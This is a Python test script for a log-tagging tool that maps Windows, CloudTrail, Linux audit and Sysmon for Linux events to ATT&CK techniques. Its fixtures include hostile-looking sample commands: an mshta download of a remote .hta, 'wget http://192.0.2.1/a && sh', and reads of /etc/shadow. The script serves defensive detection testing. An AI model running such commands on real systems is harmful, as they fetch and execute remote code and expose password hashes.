#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""check_tag_input.py ATTACK-EVENTS INPUT_WITHOUT_LIBRARIES: whether `tag` finds in logs of other forms what it finds in JSON
lines, what it says of those that cannot be read, and that it knows the events of the audit system and of Sysmon for Linux."""

import gzip
import json
import os
import subprocess
import sys
import tempfile

from inputs import check, finish

tool, without_libraries = sys.argv[1:]


def tag(data, *options):
    done = subprocess.run([tool, "tag", *options], input=data, capture_output=True, timeout=120)
    return done.stdout, done.stderr.decode(), done.returncode


def best(line):
    return [(each["id"], each["kind"]) for each in json.loads(line)["attack"]["techniques"][:1]]


# ---- The same events in every form

events = [{"EventID": 1, "SourceName": "Microsoft-Windows-Sysmon", "Image": "C:\\Windows\\System32\\mshta.exe",
           "CommandLine": "mshta https://example.com/a.hta"},
          {"EventID": 4663, "Channel": "Security", "ObjectType": "Key", "Note": "}{\"\\"},
          {"eventVersion": "1.08", "eventSource": "iam.amazonaws.com", "eventName": "CreateUser"}] * 50
plain = "".join(json.dumps(event) + "\n" for event in events).encode()
expected = [json.loads(line)["attack"] for line in tag(plain)[0].splitlines()]
check("events that show something", all(each["techniques"] for each in expected), True)
forms = [json.dumps(events), json.dumps(events, indent=2), "".join(map(json.dumps, events)),
         "".join("\x1e" + json.dumps(event, indent=1) + "\n" for event in events),
         "\n".join(json.dumps(event, indent=4) for event in events)]
for data in [form.encode() for form in forms] + [gzip.compress(plain), gzip.compress(forms[1].encode())]:
    out, said, status = tag(data)
    check("the answer", ([json.loads(line)["attack"] for line in out.splitlines()], said, status), (expected, "", 0))
    check("the summary", tag(data, "--summary", "--format", "json"), tag(plain, "--summary", "--format", "json"))

# ---- What cannot be read

with tempfile.TemporaryDirectory() as folder:
    files = [os.path.join(folder, name) for name in ("one.json.gz", "two.json")]
    log = b"".join(plain.replace(b"SourceName", b'Number":%d,"SourceName' % i) for i in range(20))
    packed = gzip.compress(log)
    open(files[0], "wb").write(packed[:len(packed) * 3 // 4])
    open(files[1], "wb").write(plain)
    done = subprocess.run([tool, "tag", "--top", "1", *files], capture_output=True)
    lines = done.stdout.splitlines()
    whole = [line for line in lines if b'"attack"' in line]
    check("a file that is cut off", (done.returncode, done.stderr.decode().splitlines()[-1]),
          (1, f"attack-events: cannot read {files[0]}: it ends in the middle of what is compressed"))
    check("the lines before that, and the next file", len(whole) > len(events), True)

check("a build without libraries",
      [subprocess.run([without_libraries], input=data, capture_output=True).stderr.decode()
       for data in (gzip.compress(b"{}"), b"\x28\xb5\x2f\xfd\x24", b"\x5a\x2a\x4d\x18\0\0\0\0")],
      ["gzip has compressed it, and this program was built without zlib\n",
       "zstd has compressed it, and this program was built without libzstd\n",
       "zstd has compressed it, and this program was built without libzstd\n"])
out, said, status = tag(b"[" + json.dumps(events[0]).encode() + b', {"broken}, ' + json.dumps(events[1]).encode() + b"\n")
check("a broken element", (len(out.splitlines()), ":2: " in said, status), (3, True, 0))
check("a broken element, dropped", [b'"attack"' in line for line in tag(
    b'[{"a":1},\n{"a"},\n{"b":1}]\n', "--skip-malformed")[0].splitlines()], [True, True])

# ---- The audit system

head = "arch=c000003e syscall={} success=yes exit=0 a0={} a1=9ed a2=2 a3=0 items=2 ppid=1 pid=2 auid=0 uid=0 comm=\"x\" exe=\"{}\""
for records, technique in (
        ([("SYSCALL", head.format(59, 1, "/usr/bin/whoami")), ("EXECVE", "argc=1 a0=\"whoami\""), ("EOE", "")], "T1033"),
        ([("SYSCALL", head.format(257, 1, "/usr/bin/cat")), ("PATH", "item=0 name=\"/etc/shadow\" nametype=NORMAL")], "T1003.008"),
        ([("SYSCALL", head.format(257, 1, "/usr/bin/cat")), ("PATH", f"item=0 name={b'/etc/shadow'.hex()} nametype=NORMAL")],
         "T1003.008"),
        ([("SYSCALL", head.format(41, 11, "/usr/bin/sniff"))], "T1040"),
        ([("SYSCALL", head.format(310, 11, "/usr/bin/read"))], "T1003.007"),
        ([("SYSCALL", head.format(90, "ff00", "/bin/chmod"))], "T1548.001"),
        ([("KERN_MODULE", "name=\"rootkit\"")], "T1014")):
    log = "".join(f"type={kind} msg=audit(1626611363.720:348501): {body}\n" for kind, body in records)
    out, said, status = tag(log.encode(), "--top", "all")
    line = json.loads(out)
    check(f"{technique} in {log}", technique in [each["id"] for each in line["attack"]["techniques"]
                                               if each["kind"] in ("condition", "direct")], True)
    check("the message", (said, status), ("", 0))

for kind in ("SYSCALL", "USER_LOGIN"):
    check("a node that is no record's", json.loads(tag(f"node=a b type={kind} msg=audit(1.000:1): uid=1\n".encode())[0]).keys(),
          {"ID", kind, "attack"})

# ---- Sysmon for Linux: the same as the event in the form of evtx_dump

fields = {"Image": "/usr/bin/wget", "CommandLine": "wget http://192.0.2.1/a && sh", "User": "root"}
data = "".join(f"<Data Name=\"{name}\">{value.replace('&', '&amp;')}</Data>" for name, value in fields.items())
xml = ("<Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{ff032593}\"/><EventID>1</EventID><Channel>Linux-Sysmon/Operational"
       f"</Channel></System><EventData>{data}</EventData></Event>")
event = {"Event": {"System": {"Provider": {"#attributes": {"Name": "Linux-Sysmon"}}, "EventID": 1,
                              "Channel": "Linux-Sysmon/Operational"}, "EventData": fields}}
answer = json.loads(tag(json.dumps(event).encode())[0])["attack"]
check("Sysmon for Linux shows something", len(answer["techniques"]) > 0, True)
for log in (f"Nov 24 08:30:01 host sysmon: {xml}\n", f"{xml}\n", json.dumps({"MESSAGE": xml}) + "\n",
            json.dumps({"message": f"Nov 24 08:30:01 host sysmon: {xml}"}) + "\n", f"Nov 24 08:30:00 host cron: hello\n{xml}\n"):
    out, said, status = tag(log.encode())
    check(log, json.loads(out.splitlines()[-1])["attack"], answer)
check("a line of syslog that is no event", tag(b"Nov 24 08:30:00 host cron: hello\n")[0], b"Nov 24 08:30:00 host cron: hello\n")

# ---- What took seconds for each megabyte when more was searched than the next byte that counts

out, said, status = tag(b"<Event>\n" * 5_000_000, "--skip-malformed")
check("events without an end", (out, said.splitlines()[-2:], status),
      (b"", ["attack-events: further lines are counted, not shown",
             "attack-events: 5000000 lines in all could not be read; dropped"], 0))
for pair in (b'a="" ', b"a={} "):
    head = b"type=USER_LOGIN msg=audit(1626611363.720:348501): pid=1 "
    out, said, status = tag(head + pair * (15_000_000 // len(pair)) + b"\n", "--skip-malformed")
    check(f"many values like {pair}", (said.count("\n"), status), (1, 0))

finish("logs of other forms")
